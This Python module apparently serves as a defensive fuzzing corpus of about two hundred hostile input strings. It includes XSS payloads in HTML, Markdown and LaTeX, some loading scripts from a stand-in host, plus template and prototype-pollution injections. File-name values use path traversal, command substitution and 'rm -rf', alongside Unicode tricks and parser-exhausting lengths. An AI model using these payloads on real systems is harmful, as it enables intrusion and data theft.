"""Two hundred strings that try to be more than words: for abstracts, titles, file names, questions.

Each that could run sets ``window.pwned``; each that could fetch asks ``outside.invalid``.
"""

from __future__ import annotations

from itertools import product

_RUN = "window.pwned=1"
_OUT = "https://outside.invalid/x"
LONG = 100_000  # letters of a word without an end

_ELEMENTS = (
    "<script>{run}</script>",
    "<script src={out}.js></script>",
    "<img src=x onerror={run}>",
    "<img src={out}.png>",
    "<svg onload={run}>",
    "<svg><animate onbegin={run} attributeName=x dur=1s>",
    "<svg><image href={out}.png /></svg>",
    "<iframe srcdoc='<script>parent.{run}</script>'></iframe>",
    "<iframe src={out}></iframe>",
    "<object data={out}></object>",
    "<embed src={out}>",
    "<link rel=stylesheet href={out}.css>",
    "<style>@import '{out}.css'; * {{display:none}}</style>",
    "<style>*{{background:url({out}.png)}}</style>",
    "<base href={out}>",
    "<meta http-equiv=refresh content='0;url={out}'>",
    "<video src={out}.mp4 onerror={run}></video>",
    "<audio autoplay src={out}.mp3 onerror={run}>",
    "<details open ontoggle={run}>",
    "<input autofocus onfocus={run}>",
    "<form action={out}><button>x</button></form>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror={run}>",
    "<template><img src=x onerror={run}></template>",
    "<body onload={run}>",
    "<marquee onstart={run}>x</marquee>",
)
_AROUND = ("{}", "\"'>{}", "-->{}", "</textarea></title></blockquote></article>{}")
_LINKS = (
    "[x](javascript:{run})",
    "[x]( JaVaScRiPt:{run} )",
    "[x](java\tscript:{run})",
    "[x](data:text/html,<script>{run}</script>)",
    "[x](vbscript:{run})",
    '[x]({out}" onmouseover="{run})',
    "<javascript:{run}>",
    "![x]({out}.png)",
    "![x](//outside.invalid/x.png)",
    "![x][y]\n\n[y]: {out}.png",
    "[![x]({out}.png)](javascript:{run})",
    "\\href{{javascript:{run}}}{{x}}",
    "\\url{{javascript:{run}}}",
    "\\includegraphics{{{out}.png}}",
    "$\\href{{javascript:{run}}}{{x}}$",
    "$\\text{{<img src=x onerror={run}>}}$",
    "$$\\unicode{{<script>{run}</script>}}$$",
    "$\\class{{x}}{{y}}\\style{{background:url({out})}}{{z}}$",
    "https://[",
    'https://x.invalid/"onclick={run}//',
)
_LATEX = (
    "\\def\\a{{\\a\\a}}\\a",
    "$" + "\\frac{{1}}{{" * 80 + "2" + "}}" * 80 + "$",
    "$$" + "x^{{" * 90 + "}}" * 90 + "$$",
    "{{" * 5_000,
    "\\textbf{{" * 2_000 + "x" + "}}" * 2_000,
    "$" * 20_001,
    "\\[" * 5_000,
    "\\(" + "\\left(" * 100 + "\\)",
    "\\begin{{array}}" + "&" * 900 + "\\end{{array}}",
    "\\newcommand{{\\x}}[1]{{#1#1}}" + "\\x{{" * 20 + "y" + "}}" * 20,
    "**" * 10_000,
    "*a" * 10_000,
    "[" * 20_000,
    "`" * 20_001,
    "\\input{{/etc/passwd}}\\write18{{id}}",
)
_TEMPLATES = (
    "${{{run}}}",
    "{{{{{run}}}}}",
    "{{{{constructor.constructor('{run}')()}}}}",
    "<%= {run} %>",
    "#{{{run}}}",
    "`${{{run}}}`",
    "';{run};//",
    "\\u003cscript\\u003e{run}\\u003c/script\\u003e",
    "&lt;script&gt;{run}&lt;/script&gt;",
    "&#60;img src=x onerror={run}&#62;",
    "%3Cscript%3E{run}%3C/script%3E",
    "\uff1cscript\uff1e{run}\uff1c/script\uff1e",
    "+ADw-script+AD4-{run}+ADw-/script+AD4-",
    "__proto__",
    '{{"__proto__": {{"pwned": 1}}}}',
)
_MARKS = (  # what turns, hides, stacks or breaks off the text around it
    *(f"left {mark} right" for mark in "\u202a\u202b\u202d\u202e\u2066\u2067\u2068\u200f\u061c"),
    "\u202e" * 500 + "x",
    "\u05d0\u05d1 \u0627\u0628 1 2 3",
    *(f"before{chr(code)}after" for code in (0, 1, 7, 8, 11, 12, 27, 127, 133, 155)),
    "\x1b[2J\x1b[31mred\x1b]0;title\x07",
    "\ufeff\ufffe\uffff",
    "\u2028\u2029",
    "\u200b" * 2_000 + "x",
    "Z" + "\u0336\u0489" * 400,
    "\ud800 half a pair",
    "\U000e0041\U000e0042 tags",
    "\r\n\r\nSet-Cookie: pwned=1",
    "\n" * 3_000,
)
_LENGTHS = (
    *(letter * LONG for letter in ("w", "\u0645", "\U0001f41d", "<", "&", "-", "\u00a0")),
    "_" * LONG,
)
_PATHS = (
    "../../../../etc/passwd",
    "..\\..\\windows\\system32",
    "/etc/shadow",
    "file:///etc/passwd",
    "con.txt",
    "-rf",
    "~/.ssh/id_rsa",
    "$(id).txt",
    "`id`.txt",
    "; rm -rf x",
    "x.txt::$DATA",
    "%00.txt",
)


def _filled(pattern: str) -> str:
    return pattern.format(run=_RUN, out=_OUT)


STRINGS: tuple[str, ...] = (
    *(_filled(around.format(one)) for one, around in product(_ELEMENTS, _AROUND)),
    *map(_filled, (*_LINKS, *_LATEX, *_TEMPLATES)),
    *_MARKS,
    *_LENGTHS,
    *_PATHS,
)
